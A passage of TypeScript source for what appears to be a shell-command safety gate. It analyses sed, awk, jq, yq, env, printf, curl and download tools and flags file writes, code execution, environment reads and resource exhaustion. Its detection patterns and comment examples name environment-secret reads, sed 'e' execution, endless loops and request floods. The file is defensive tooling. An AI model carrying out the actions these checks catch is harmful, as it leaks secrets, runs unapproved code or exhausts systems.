  "-n",
  "-E",
  "-r",
  "-s",
  "-u",
  "-z",
  "--quiet",
  "--silent",
  "--regexp-extended",
  "--separate",
  "--unbuffered",
  "--null-data",
  "--posix",
  "--debug",
  "--sandbox",
  "--follow-symlinks",
  "--help",
  "--version",
]);

/** sed: -i writes its files; `w`, `W` and `s///w` write, `e` and `s///e` run commands, `r` reads. */
function sedEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const scripts: (string | null)[] = [];
  const files: (string | null)[] = [];
  const fileWords: Word[] = [];
  let inPlace = false;
  let sandbox = false;
  let end = false;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) {
      files.push(null);
      continue;
    }
    if (end || v === "-" || !v.startsWith("-")) {
      files.push(v);
      fileWords.push(words[i]!);
      continue;
    }
    if (v === "--") {
      end = true;
      continue;
    }
    if (v.startsWith("--in-place") || /^-i/.test(v) || (/^-[nErsuz]+i/.test(v) && !v.includes("e"))) {
      inPlace = true;
      // macOS sed: `-i ''` (man sed(1) on macOS: -i extension, a separate word; '' keeps no backup).
      if (v.endsWith("i") && !v.startsWith("--") && words[i + 1]?.value === "") i++;
      continue;
    }
    if (v === "--sandbox") sandbox = true;
    if (SED_BOOL.has(v) || /^-[nErsuz]+$/.test(v)) continue;
    if (v === "-e" || v === "--expression") {
      const w = words[++i];
      if (w !== undefined) fx.exprs.push(w);
      scripts.push(w?.value ?? null);
      continue;
    }
    if (v.startsWith("--expression=")) {
      scripts.push(v.slice(13));
      continue;
    }
    if (/^-[nErsuz]*e/.test(v)) {
      const rest = v.slice(v.indexOf("e") + 1);
      if (rest === "" && words[i + 1] !== undefined) fx.exprs.push(words[i + 1]!);
      scripts.push(rest !== "" ? rest : (words[++i]?.value ?? null));
      continue;
    }
    if (v === "-f" || v === "--file" || v.startsWith("--file=") || /^-[nErsuz]*f/.test(v)) {
      const val = v.startsWith("--file=")
        ? v.slice(7)
        : v === "-f" || v === "--file"
          ? (words[++i]?.value ?? null)
          : v.slice(v.indexOf("f") + 1) || (words[++i]?.value ?? null);
      floor(
        fx,
        `code: '${ctx.text}' runs a sed script from ${val === null ? "a file only known at run time" : `'${val}'`}, which can write files and run commands`,
      );
      if (val !== null) fx.reads.push(val);
      scripts.push("");
      continue;
    }
    if (v === "-l" || v === "--line-length") {
      i++;
      continue;
    }
    if (v.startsWith("--line-length=") || /^-l\d+$/.test(v)) continue;
    floor(fx, `unknown-flag: '${ctx.text}': '${v}' is not a sed flag the gate knows`);
  }
  if (scripts.length === 0) {
    // No -e/-f: the first operand is the script (a null file is a dynamic word, not in fileWords).
    if (files[0] !== null && fileWords[0] !== undefined) fx.exprs.push(fileWords[0]);
    scripts.push(files.shift() ?? "");
  }
  // sed joins its -e pieces with newlines into one script: `-e :a -e 'p;ba'` jumps back to the
  // label the first piece set.
  const joined = scripts.includes(null) ? scripts : [scripts.join("\n")];
  for (const s of joined) {
    if (s === null) {
      floor(fx, `dynamic-command: '${ctx.text}': the sed script is only known at run time`);
      continue;
    }
    if (sandbox) continue;
    const r = sedScript(s);
    if (r.exec) floor(fx, `code-runner: '${ctx.text}': the sed script runs commands (e)`);
    if (r.loops)
      floor(fx, `resources: '${ctx.text}': the sed script jumps back without reading input (it never ends)`);
    for (const w of r.writes) fx.writes.push(w);
    for (const p of r.reads) fx.reads.push(p);
  }
  for (const f of files) {
    if (f !== null) fx.reads.push(f);
    if (inPlace) apply("write", "-i", f, ctx, fx);
  }
}

/**
 * A sed script's file and command effects, read command by command: addresses are skipped, `s`
 * and `y` are parsed with their delimiters, and what follows `w`/`W`/`r`/`R`/`e` (to the end of
 * the line) is its file or command. An unreadable script is reported as running commands.
 * `loops`: some branch never ends (sedLoops).
 */
export function sedScript(s: string): {
  writes: string[];
  reads: string[];
  exec: boolean;
  loops: boolean;
  /** The text it puts in the file: each `s` replacement (escapes read) and each `a`/`i`/`c` text. */
  inserted: string[];
} {
  const out = {
    writes: [] as string[],
    reads: [] as string[],
    exec: false,
    loops: false,
    inserted: [] as string[],
  };
  // The commands in order, for sedLoops: whether each has an address, a branch's label, and for
  // `s` whether its regex matches the empty string (then it always succeeds).
  const cmds: SedCmd[] = [];
  let addressed = false;
  let i = 0;
  const n = s.length;
  const toEol = (): string => {
    const j = s.indexOf("\n", i);
    const v = s.slice(i, j < 0 ? n : j).trim();
    i = j < 0 ? n : j + 1;
    return v;
  };
  const delimited = (d: string): boolean => {
    // Reads up to the unescaped delimiter `d`; false when the script ends first.
    while (i < n && s[i] !== d) {
      if (s[i] === "\\") i++;
      else if (s[i] === "\n" && d !== "\n") return false;
      i++;
    }
    if (i >= n) return false;
    i++;
    return true;
  };
  let guard = 0;
  while (i < n && guard++ < 10_000) {
    const c = s[i]!;
    if (" \t\n;{}!".includes(c)) {
      if (c === ";" || c === "\n" || c === "}") addressed = false;
      i++;
      continue;
    }
    // Addresses: numbers, $, /re/, \cREc, `first~step`, `addr,addr`, `+N`.
    if (/[0-9$~,+]/.test(c)) {
      addressed = true;
      i++;
      continue;
    }
    if (c === "/" || c === "\\") {
      addressed = true;
      const d = c === "\\" ? s[++i] : "/";
      i++;
      if (d === undefined || !delimited(d)) return { ...out, exec: true };
      if (s[i] === "I" || s[i] === "M") i++;
      continue;
    }
    i++;
    switch (c) {
      case "s":
      case "y": {
        const d = s[i++];
        const re = i;
        if (d === undefined || !delimited(d)) return { ...out, exec: true };
        const always = c === "s" && matchesEmpty(s.slice(re, i - 1));
        const repl = i;
        if (!delimited(d)) return { ...out, exec: true };
        if (c === "s") out.inserted.push(sedReplacement(s.slice(repl, i - 1), d));
        cmds.push({ c, addressed, label: "", always });
        if (c === "y") break;
        // Flags: g p i I m M e w FILE, numbers.
        while (i < n && /[gpiImMe0-9]/.test(s[i]!)) {
          if (s[i] === "e") out.exec = true;
          i++;
        }
        if (s[i] === "w") {
          i++;
          out.writes.push(toEol());
        }
        break;
      }
      case "w":
      case "W":
        out.writes.push(toEol());
        break;
      case "r":
      case "R":
        out.reads.push(toEol());
        break;
      case "e":
        out.exec = true;
        toEol();
        break;
      case "a":
      case "i":
      case "c": {
        if (c === "c") cmds.push({ c, addressed, label: "", always: false });
        // `a text`, GNU's one-line `a\text`; the classic `a\` puts its text on the next line.
        const text = toEol();
        out.inserted.push(text.startsWith("\\") ? text.slice(1) : text);
        break;
      }
      case "b":
      case "t":
      case "T":
      case ":": {
        const from = i;
        // A branch's label also ends at a block's `}` (`/a/{:a;p;ba}`, as GNU sed reads it).
        while (i < n && s[i] !== ";" && s[i] !== "\n" && (c === ":" || s[i] !== "}")) i++;
        cmds.push({ c, addressed, label: s.slice(from, i).trim(), always: false });
        break;
      }
      case "q":
      case "Q":
      case "l":
      case "L":
        if (c === "q" || c === "Q") cmds.push({ c, addressed, label: "", always: false });
        while (i < n && /[0-9 ]/.test(s[i]!)) i++;
        break;
      case "=":
      case "d":
      case "D":
      case "g":
      case "G":
      case "h":
      case "H":
      case "n":
      case "N":
      case "p":
      case "P":
      case "x":
      case "z":
      case "F":
        cmds.push({ c, addressed, label: "", always: false });
        break;
      default:
        // A command the reader does not know: it might be one that runs something.
        return { ...out, exec: true };
    }
  }
  out.loops = sedLoops(cmds);
  return out;
}

/** An `s` replacement as it is written to the file: `\d` is the delimiter, `\n` a newline, other escapes kept. */
function sedReplacement(raw: string, d: string): string {
  let out = "";
  for (let i = 0; i < raw.length; i++) {
    const ch = raw[i]!;
    if (ch === "\\" && i + 1 < raw.length) {
      const e = raw[++i]!;
      out += e === d ? d : e === "n" ? "\n" : `\\${e}`;
    } else out += ch;
  }
  return out;
}

interface SedCmd {
  /** The command letter (`:` a label). */
  c: string;
  addressed: boolean;
  /** A branch's or a label's name ("" for `b` to the end). */
  label: string;
  /** `s` whose regex matches the empty string: it always succeeds. */
  always: boolean;
}

/** Commands that read input or end the cycle or the run (a loop through one ends with the input). */
const SED_READS = new Set(["n", "N", "d", "D"]);
/** Exits: `q`, `Q`, `c` (c ends the cycle); with an address, they leave only once the pattern space changes. */
const SED_EXITS = new Set(["q", "Q", "c"]);
/** Commands that change the pattern space (an address tested again may then fail). */
const SED_CHANGES = new Set(["s", "y", "g", "G", "x", "z"]);
/** Most commands judged for loops; a longer script is judged as one that may loop (bounded work). */
const SED_LOOP_BUDGET = 512;

/**
 * gate56: true when some branch of a sed script runs forever: a `b`, `t` or `T` to a label at or
 * before it (sed finds labels anywhere in the joined script: `-e :a -e 'p;ba'`), with no command
 * between the label and the branch that reads input (`n`, `N`, `d`, `D`), exits (`q`, `Q`, `c`;
 * with an address, when the span also changes the pattern space) or leaves that span (a branch to
 * the end or to a label outside it). The branch is taken every time when:
 * - `b` with no address (`:a;p;ba`), or with an address and nothing in the span that changes the
 *   pattern space (`:a;$!ba`, `:a;/x/ba`: the address answers the same every time);
 * - `t` when an `s` in the span always succeeds (`:a;s/^/x/;ta`: its regex matches the empty string);
 * - `T` when no `s` in the span can succeed every time (`:a;Ta`, `:a;s/x/y/;Ta` on a line with no x).
 * A label defined twice, or a branch to a label that does not exist (sed refuses the script), is not
 * a loop here.
 */
function sedLoops(cmds: readonly SedCmd[]): boolean {
  if (cmds.length > SED_LOOP_BUDGET) return true;
  const at = new Map<string, number>();
  for (let k = 0; k < cmds.length; k++) if (cmds[k]!.c === ":") at.set(cmds[k]!.label, k);
  const seen = new Uint8Array(cmds.length);
  const todo: number[] = [];
  for (let j = 0; j < cmds.length; j++) {
    const br = cmds[j]!;
    if (br.c !== "b" && br.c !== "t" && br.c !== "T") continue;
    const k = at.get(br.label);
    if (br.label === "" || k === undefined || k > j) continue;
    // What the span holds, and whether a path from the label reaches the branch: a read or an
    // exit stops a path, an unconditional branch goes only to its label (`:a;bz;n;:z;ba` skips n),
    // a branch out of the span leaves it.
    let changes = false;
    let always = false;
    let exits = false;
    for (let m = k + 1; m < j; m++) {
      const x = cmds[m]!;
      if (SED_CHANGES.has(x.c)) changes = true;
      if (x.always && !x.addressed) always = true;
      if (SED_EXITS.has(x.c) && x.addressed) exits = true;
    }
    if (exits && changes) continue;
    seen.fill(0, k, j + 1);
    todo.length = 0;
    todo.push(k + 1);
    let reached = false;
    while (todo.length > 0 && !reached) {
      const m = todo.pop()!;
      if (m < k || m > j || seen[m] === 1) continue;
      seen[m] = 1;
      if (m === j) {
        reached = true;
        break;
      }
      const x = cmds[m]!;
      if (SED_READS.has(x.c) || (SED_EXITS.has(x.c) && !x.addressed)) continue;
      if (x.c === "b" || x.c === "t" || x.c === "T") {
        const to = x.label === "" ? -1 : (at.get(x.label) ?? -1);
        if (to >= 0) todo.push(to + 1);
        if (x.c === "b" && !x.addressed) continue;
      }
      todo.push(m + 1);
    }
    if (!reached) continue;
    if (br.c === "b" ? !br.addressed || !changes : br.c === "t" ? always : !always) return true;
  }
  return false;
}

/**
 * True when a sed regex (BRE or ERE) can match the empty string: every atom is optional (`*`, `?`,
 * `\?`, `{0,…}`) or an anchor (`^`, `$`), as `^`, `$`, `.*`, `a*` and the empty regex are. The
 * empty regex reuses the last one, which is judged the same (it may match anything). Groups and
 * alternations are read as their parts: a regex with `\|` or `|` matches empty when one side does
 * (a part reported empty too often makes a loop ESCALATE, never an ALLOW).
 */
function matchesEmpty(re: string): boolean {
  let atom = false; // an atom waiting for its quantifier
  let empty = true; // every atom so far is optional
  for (let i = 0; i < re.length; i++) {
    const c = re[i]!;
    if (c === "*" || c === "?") {
      atom = false;
      continue;
    }
    if (c === "\\") {
      const d = re[++i];
      if (d === "?" || d === "(" || d === ")") {
        if (d === "?") atom = false;
        continue;
      }
      if (d === "|") {
        if (!atom && empty) return true;
        atom = false;
        empty = true;
        continue;
      }
      if (d === "{" && re[i + 1] === "0") {
        atom = false;
        i = re.indexOf("}", i);
        if (i < 0) return true;
        continue;
      }
    } else if (c === "{" && re[i + 1] === "0") {
      atom = false;
      i = re.indexOf("}", i);
      if (i < 0) return true;
      continue;
    } else if (c === "^" || c === "$" || c === "(" || c === ")") continue;
    else if (c === "|") {
      if (!atom && empty) return true;
      atom = false;
      empty = true;
      continue;
    } else if (c === "[") {
      // A bracket expression: one atom, to its closing `]` (a `]` first is a member).
      let j = i + 1;
      if (re[j] === "^") j++;
      if (re[j] === "]") j++;
      while (j < re.length && re[j] !== "]") j++;
      i = j;
    }
    if (atom) empty = false;
    atom = true;
  }
  return empty && !atom;
}

/**
 * awk: `-f FILE` and gawk's `-i FILE` / `-E FILE` are programs (scripts), `-l LIB` loads a shared
 * library (code), `-v` and `-F` take values; a program that reads `ENVIRON` or `PROCINFO` prints
 * the environment (a secret store).
 */
function awkEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let program: string | null | undefined;
  let fromFile = false;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) {
      if (program === undefined && !fromFile) program = null;
      continue;
    }
    if (v === "--") {
      if (!fromFile && program === undefined) program = words[i + 1]?.value ?? undefined;
      break;
    }
    const m = /^(-[fiElvF]|--(file|include|exec|load|assign|field-separator))(=?)(.*)$/s.exec(v);
    if (m) {
      const flag = m[1]!;
      const val = m[4] !== "" || m[3] === "=" ? m[4]! : (words[++i]?.value ?? null);
      if (flag === "-f" || flag === "-i" || flag === "-E" || /^--(file|include|exec)$/.test(flag)) {
        fromFile = true;
        apply("script", flag, val, ctx, fx);
      } else if (flag === "-l" || flag === "--load")
        floor(fx, `code: '${ctx.text}' loads a shared library into awk (${flag})`);
      continue;
    }
    if (v.startsWith("-") && v.length > 1) continue;
    if (!fromFile && program === undefined) {
      program = v;
      fx.exprs.push(words[i]!);
    } else fx.reads.push(v);
  }
  if (program === null)
    floor(fx, `dynamic-command: '${ctx.text}': the awk program is only known at run time`);
  else if (program !== undefined) {
    awkDirectives(program, ctx, fx);
    if (/\b(ENVIRON|PROCINFO)\b/.test(program)) fx.reads.push(ENVIRON);
    if (AWK_ENDLESS.test(program) && !AWK_LEAVES.test(program))
      floor(
        fx,
        `resources: '${ctx.text}': the awk program loops forever (a condition that never changes, no way out)`,
      );
  }
}

/**
 * gate64: gawk's `@include "F"` reads F as more of the program (as `-i F` does): a script it runs,
 * judged as `-f F`; `@load "X"` loads the shared library X, as `-l X` does.
 */
function awkDirectives(program: string, ctx: EffectsCtx, fx: Effects): void {
  if (!program.includes("@")) return;
  for (const m of program.matchAll(/@(include|load)\s*"((?:[^"\\]|\\.)*)"/g))
    if (m[1] === "include") apply("script", "@include", m[2]!.replace(/\\(.)/g, "$1"), ctx, fx);
    else floor(fx, `code: '${ctx.text}' loads a shared library into awk (@load)`);
  // A directive whose file the gate cannot read off the text (`@include x` unquoted is an error).
  if (/@(include|load)\b/.test(program.replace(/@(include|load)\s*"(?:[^"\\]|\\.)*"/g, "")))
    floor(fx, `code: '${ctx.text}': the awk program includes or loads a file the gate cannot name`);
}

/**
 * An awk loop whose condition never changes: `while(1)`, `while("x")`, `while(!0)`, `do … while(1)`,
 * `for(;;)`, `for(i=0;;i++)`, `for(;1;)`. With no break, exit, return or next in the program it
 * runs until awk is killed, printing (a full disk) or growing a string or an array (memory).
 */
const AWK_ENDLESS =
  /\bwhile\s*\(\s*(?:[1-9]\d*|"[^"]+"|!\s*0)\s*\)|\bfor\s*\([^;()]*;\s*(?:[1-9]\d*\s*)?;[^;()]*\)/;
const AWK_LEAVES = /\b(break|exit|return|next|nextfile)\b/;

/**
 * `env` alone (or with only assignments and flags) prints the environment; `-C DIR` runs the
 * command elsewhere, so its relative paths are not the ones the gate resolved.
 */
function envEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const { start } = wrappedStart("env", words);
  const split = words.some((w) => w.value !== null && /^(-S|--split-string)/.test(w.value));
  if (start < 0 && !split) fx.reads.push(ENVIRON);
  for (let i = 0; i < (start < 0 ? words.length : start); i++) {
    const v = words[i]!.value;
    if (v !== null && /^(-C|--chdir)/.test(v))
      floor(fx, `wrapper-cwd: '${ctx.text}' runs its command in another directory (${v.split("=")[0]})`);
  }
}

/**
 * jq filters: `env` and `$ENV` read the environment; `repeat`, `while`, `until` and huge `range`s
 * run without a bound; `-L DIR` adds modules (code) from a directory.
 */
/**
 * yq's expression language reads files and the environment: `load("f")`, `load_str("f")`,
 * `load_props`, `load_xml`, `load_base64`; `env(NAME)`, `strenv(NAME)`, `$ENV`. A load whose
 * argument is not a string literal reads a file only known at run time.
 */
function yqExpression(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (const w of words) {
    const v = w.value;
    if (v === null || v.startsWith("-")) continue;
    for (const m of v.matchAll(/\bload(?:_str|_props|_xml|_base64|_yaml|_json)?\s*\(\s*("([^"\\]*)")?/g)) {
      if (m[2] !== undefined) fx.reads.push(m[2]);
      else floor(fx, `dynamic-read: '${ctx.text}' loads a file the yq expression computes`);
    }
    if (/\b(str)?env\s*\(|\$ENV\b/.test(v)) fx.reads.push(ENVIRON);
  }
}

function jqFilter(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  const VAL = new Set([
    "--arg",
    "--argjson",
    "--slurpfile",
    "--rawfile",
    "--indent",
    "-L",
    "-f",
    "--from-file",
  ]);
  let filter: string | null | undefined;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v !== null && VAL.has(v)) {
      if (v === "-L") apply("script", "-L", words[i + 1]?.value ?? null, ctx, fx);
      if (v === "-f" || v === "--from-file") filter = "";
      i += v === "--arg" || v === "--argjson" || v === "--slurpfile" || v === "--rawfile" ? 2 : 1;
      continue;
    }
    if (v?.startsWith("-") && v.length > 1) continue;
    filter = v;
    if (v !== null && words[i] !== undefined) fx.exprs.push(words[i]!);
    break;
  }
  if (filter === null) {
    floor(fx, `dynamic-command: '${ctx.text}': the jq filter is only known at run time`);
    return;
  }
  if (!filter) return;
  if (/(^|[^.\w$])env\b|\$ENV\b|\$__prog_args|\binput_filename\b/.test(filter)) fx.reads.push(ENVIRON);
  if (/\b(repeat|while|until|recurse_down|infinite)\b/.test(filter))
    floor(fx, `resources: '${ctx.text}': the jq filter can run without a bound`);
  const unbound = jqUnbounded(filter);
  if (unbound !== null)
    floor(fx, `resources: '${ctx.text}': the jq filter ${unbound}: it can run without a bound`);
  for (const m of filter.matchAll(/\brange\s*\(([^)]*)\)/g))
    if (m[1]!.split(/[;,]/).some((a) => hugeNumber(a.trim()) || /[a-z$]/i.test(a.trim())))
      floor(fx, `resources: '${ctx.text}': the jq filter makes a range without a useful bound`);
  if (/\b(import|include)\b/.test(filter)) floor(fx, `code: '${ctx.text}': the jq filter loads modules`);
}

/**
 * A path expression: what `recurse(f)` with it walks is the input's own tree (`.children[]?`,
 * `.[]`, `.a.b[]`), which ends where the input does.
 */
const JQ_PATH = /^\s*(?:\.(?:[A-Za-z_]\w*|"[^"\\]*")?\s*(?:\[\s*(?:\d+|"[^"\\]*")?\s*\]\s*)*\??\s*)+$/;

/**
 * gate59: jq forms that run without a bound the input sets: `recurse(f)` / `recurse(f; cond)` with
 * a generator that is not a path into the input (`recurse(.+1; true)` counts forever), and a
 * function that calls itself (`def f: [f]; f` recurses until memory runs out). jq defines a
 * function before its use, so only a call inside its own body recurses; a body the gate cannot cut
 * out (a nested `def`, no end) is not bounded either. Null: none found.
 */
function jqUnbounded(filter: string): string | null {
  for (const m of filter.matchAll(/\brecurse\s*\(/g)) {
    const args = balanced(filter, m.index! + m[0].length);
    if (args === null || args.includes(";") || !JQ_PATH.test(args))
      return `recurses with '${m[0]}${args ?? "…"})', which does not walk the input`;
  }
  for (const m of filter.matchAll(/\bdef\s+([A-Za-z_]\w*)\s*(?:\([^)]*\))?\s*:/g)) {
    const name = m[1]!;
    const start = m.index! + m[0].length;
    const end = jqBodyEnd(filter, start);
    const body = end < 0 ? null : filter.slice(start, end);
    if (body === null || /\bdef\b/.test(body)) return `defines '${name}' with a body it cannot read`;
    const call = new RegExp(`(^|[^.$\\w])${name}\\b(?!\\s*:)`);
    if (call.test(body)) return `defines '${name}', which calls itself`;
  }
  return null;
}

/** The text inside the parenthesis opened just before `at`, up to its match; null when it has none. */
function balanced(s: string, at: number): string | null {
  let depth = 1;
  for (let i = at; i < s.length; i++) {
    const c = s[i];
    if (c === '"') i = stringEnd(s, i);
    else if (c === "(" || c === "[" || c === "{") depth++;
    else if (c === ")" || c === "]" || c === "}") if (--depth === 0) return s.slice(at, i);
  }
  return null;
}

/** Index of the `;` that ends a jq def body starting at `at` (depth 0), or -1. */
function jqBodyEnd(s: string, at: number): number {
  let depth = 0;
  for (let i = at; i < s.length; i++) {
    const c = s[i];
    if (c === '"') i = stringEnd(s, i);
    else if (c === "(" || c === "[" || c === "{") depth++;
    else if (c === ")" || c === "]" || c === "}") {
      if (--depth < 0) return -1;
    } else if (c === ";" && depth === 0) return i;
  }
  return -1;
}

/** Index of the quote that closes the string opened at `at` (the end of `s` when none). */
function stringEnd(s: string, at: number): number {
  for (let i = at + 1; i < s.length; i++) {
    if (s[i] === "\\") i++;
    else if (s[i] === '"') return i;
  }
  return s.length;
}

/** printf: `-v NAME` assigns a variable (judged like `NAME=…`); a huge field width fills a disk. */
function printfEffects(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === "-v") {
      const name = words[i + 1]?.value ?? null;
      if (name === null || CMD_VARS.has(name) || INJECT_VARS.test(name) || injectsEnv(name))
        floor(
          fx,
          `code-injection: '${ctx.text}' sets ${name ?? "a variable only known at run time"}, which names code to run`,
        );
      i++;
      continue;
    }
    if (v !== null && (hugeNumber(v) || /%[-+ #0]*\d{8,}/.test(v)))
      floor(fx, `resources: '${ctx.text}' prints a field of ${v.length > 20 ? "huge" : v} characters`);
  }
}

/** One curl option as the line gives it: its name (`-o`, `--output`), its value (undefined: none, or the line ends). */
interface CurlOpt {
  name: string;
  value: string | null | undefined;
}

/** curl's argv read once: its options in order, and its URLs (operands and `--url` values, in order). */
interface CurlArgs {
  opts: CurlOpt[];
  urls: string[];
}

/**
 * One option-pair pass over curl's words, driven by SPECS.curl's value table: `--name=value`,
 * `--name value`, a short bundle whose value-taking letter takes the rest of the word or the next
 * one (`-sSo out`, `-ofile`); every other word is a URL. Each curl consumer reads this.
 */
function curlArgs(words: Word[]): CurlArgs {
  const values = SPECS.curl!.values!;
  const opts: CurlOpt[] = [];
  const urls: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    if (v.startsWith("--")) {
      const eq = v.indexOf("=");
      const name = eq > 0 ? v.slice(0, eq) : v;
      const value = eq > 0 ? v.slice(eq + 1) : values[name] !== undefined ? words[++i]?.value : undefined;
      opts.push({ name, value });
      if (name === "--url" && value != null) urls.push(value);
      continue;
    }
    if (v.length > 1 && v[0] === "-") {
      for (let k = 1; k < v.length; k++) {
        const name = `-${v[k]}`;
        if (values[name] === undefined) {
          opts.push({ name, value: undefined });
          continue;
        }
        opts.push({ name, value: k + 1 < v.length ? v.slice(k + 1) : words[++i]?.value });
        break;
      }
      continue;
    }
    urls.push(v);
  }
  return { opts, urls };
}

/**
 * How many requests one URL's curl globbing makes: the product of its `[a-b]`/`[a-b:step]`
 * ranges (numbers or letters) and `{x,y,…}` sets; 1 without any. Read in one pass.
 */
export function globRequests(url: string): number {
  let n = 1;
  for (let i = 0; i < url.length && n <= Number.MAX_SAFE_INTEGER; i++) {
    const c = url[i];
    if (c === "\\") i++;
    else if (c === "{") {
      const end = url.indexOf("}", i);
      if (end < 0) break;
      let k = 1;
      for (let j = i + 1; j < end; j++) if (url[j] === ",") k++;
      n *= k;
      i = end;
    } else if (c === "[") {
      const end = url.indexOf("]", i);
      if (end < 0) break;
      const m = /^(?:(\d+)-(\d+)|([a-zA-Z])-([a-zA-Z]))(?::(\d+))?$/.exec(url.slice(i + 1, end));
      if (m) {
        const step = Math.max(1, Number(m[5] ?? 1));
        const span =
          m[1] !== undefined ? Number(m[2]) - Number(m[1]) : m[4]!.charCodeAt(0) - m[3]!.charCodeAt(0);
        n *= span < 0 ? 1 : Math.floor(span / step) + 1;
      }
      i = end;
    }
  }
  return n;
}

/**
 * curl's URL globbing (not with `-g`/`--globoff`): `[1-1000000]`, `{a,b}`, several in one URL
 * multiply, every URL adds. Beyond MAX_REQUESTS the line floods a host (`-Z` makes it parallel)
 * or, with `-o 'f#1'` or `-O`, writes one file per request: a resources floor (gate55).
 */
function curlGlobCount(args: CurlArgs, ctx: EffectsCtx, fx: Effects): void {
  if (args.opts.some((o) => o.name === "-g" || o.name === "--globoff")) return;
  let n = 0;
  for (const u of args.urls) n += globRequests(u);
  if (n > MAX_REQUESTS)
    floor(
      fx,
      `resources: '${ctx.text}' makes ${n > 1e15 ? "too many" : n} requests by URL globbing (more than ${MAX_REQUESTS}), each a request to the host${args.opts.some((o) => o.name === "-Z" || o.name === "--parallel") ? " at once" : ""}`,
    );
}

/** curl `-w '%output{FILE}…'` (7.83+) writes the rest of the format to FILE. */
function curlWriteOut(args: CurlArgs, ctx: EffectsCtx, fx: Effects): void {
  for (const { name, value: fmt } of args.opts) {
    if ((name !== "-w" && name !== "--write-out") || fmt === undefined) continue;
    if (fmt === null || fmt.startsWith("@")) {
      // `-w @FILE`: the format (and any %output{} in it) is in a file the gate does not read.
      fx.dynamicWrite = true;
      if (fmt !== null && fmt.length > 1) fx.reads.push(fmt.slice(1));
    } else
      for (const m of fmt.matchAll(/%output\{(>>)?([^}]*)\}/g))
        apply("write", "-w %output", m[2]!.replace(/^@/, ""), ctx, fx);
  }
}

/**
 * The name a download saved under its remote name gets: the URL path's last segment (curl -O,
 * wget, httpie --download, aria2c), or null when the URL names none (`https://h/`) or globs several
 * (`x[1-3].sh`, `{a,b}`: curl's URL globbing).
 */
function remoteName(url: string): string | null {
  const path = url
    .replace(/[?#].*$/, "")
    .replace(/^[a-z][a-z0-9+.-]*:\/\/[^/]*/i, "")
    .replace(/^[^/]*/, "");
  if (/[[\]{}]/.test(path)) return null;
  const base = path.slice(path.lastIndexOf("/") + 1);
  return base === "" || base === "." || base === ".." ? null : base;
}

/** A saved download: `dir/name`, or (no name the line shows: a server-chosen name) every file under dir. */
function saved(fx: Effects, dir: string | null, name: string | null): void {
  if (name === null) fx.subtrees.push(dir ?? ".");
  else fx.writes.push(dir === null || name.startsWith("/") ? name : `${dir.replace(/\/+$/, "")}/${name}`);
}

/**
 * curl `-O`/`--remote-name`/`--remote-name-all` save each URL under its remote name (in
 * `--output-dir`, which `-o FILE` is relative to as well); `-J` lets the server's
 * Content-Disposition choose it: a file the line does not name, anywhere in that directory.
 */
function curlRemoteNames(args: CurlArgs, ctx: EffectsCtx, fx: Effects): void {
  let dir: string | null = null;
  let remote = false;
  let header = false;
  const outputs: string[] = [];
  for (const { name, value } of args.opts) {
    if (name === "--remote-name" || name === "--remote-name-all" || name === "-O") remote = true;
    else if (name === "--remote-header-name" || name === "-J") header = true;
    else if (name === "--output-dir") dir = value ?? "/";
    else if ((name === "--output" || name === "-o") && value != null) outputs.push(value);
  }
  if (dir !== null)
    for (const o of outputs) if (o !== "-") apply("write", "--output-dir", `${dir}/${o}`, ctx, fx);
  if (!remote) return;
  for (const u of args.urls) saved(fx, dir, header ? null : remoteName(u));
}

/**
 * httpie/xh `-o FILE`/`--output FILE` save the body; `-d`/`--download` without one saves it under
 * the server's Content-Disposition name or the URL's: a file the line does not name, in the cwd.
 */
function httpieSaves(words: Word[], ops: Word[], ctx: EffectsCtx, fx: Effects): void {
  let download = false;
  let named = false;
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null || !v.startsWith("-")) continue;
    if (v === "--download") download = true;
    else if (v === "--output" || v.startsWith("--output=")) {
      named = true;
      apply("write", "--output", v.length > 8 ? v.slice(9) : (words[++i]?.value ?? null), ctx, fx);
    } else if (/^-[A-Za-z]+$/.test(v))
      for (let k = 1; k < v.length; k++) {
        if (v[k] === "d") download = true;
        else if (v[k] === "o") {
          named = true;
          apply("write", "-o", k + 1 < v.length ? v.slice(k + 1) : (words[++i]?.value ?? null), ctx, fx);
          break;
        }
      }
  }
  if (download && !named) {
    const first = ops[0]?.value;
    const url = first && /^[A-Za-z]+$/.test(first) && ops.length > 1 ? ops[1]?.value : first;
    saved(fx, null, null);
    if (url) saved(fx, null, remoteName(url.includes("://") ? url : `http://${url}`));
  }
}

/** aria2c saves each URL as `-d DIR`/`-o NAME`, or its remote name; torrents, metalinks and magnets name their own files. */
function aria2Saves(words: Word[], ctx: EffectsCtx, fx: Effects): void {
  let dir: string | null = null;
  let out: string | null | undefined;
  const urls: string[] = [];
  for (let i = 0; i < words.length; i++) {
    const v = words[i]!.value;
    if (v === null) continue;
    const m = /^(-d|--dir|-o|--out|-i|--input-file|-T|--torrent-file|-M|--metalink-file)(=(.*))?$/.exec(v);
    if (m) {
      const val = m[2] !== undefined ? m[3]! : (words[++i]?.value ?? null);
      if (m[1] === "-d" || m[1] === "--dir") dir = val ?? "/";
      else if (m[1] === "-o" || m[1] === "--out") out = val;
      else {
        if (m[1] === "-i" || m[1] === "--input-file")
          floor(fx, `dynamic-host: '${ctx.text}' fetches the URLs listed in a file the gate cannot read`);
        if (val !== null) fx.reads.push(val);
        urls.push("");
      }
    } else if (!v.startsWith("-")) urls.push(v);
  }
  if (out !== undefined) {
    apply("write", "-o", out === null ? null : dir === null ? out : `${dir}/${out}`, ctx, fx);
    return;
  }
  for (const u of urls)
    saved(fx, dir, /^magnet:|\.(torrent|metalink|meta4)$/i.test(u) || u === "" ? null : remoteName(u));
}

/**
 * `gh release download` / `gh run download` save assets under their own names (in `-D DIR`, or
 * `-O FILE`); `gh repo clone R [DIR]` and `gh gist clone` write a repository: what github.com sent.
 */
/**
 * gate60: a database client (psql, sqlite3, mongosh) with its statements on the line: they are its
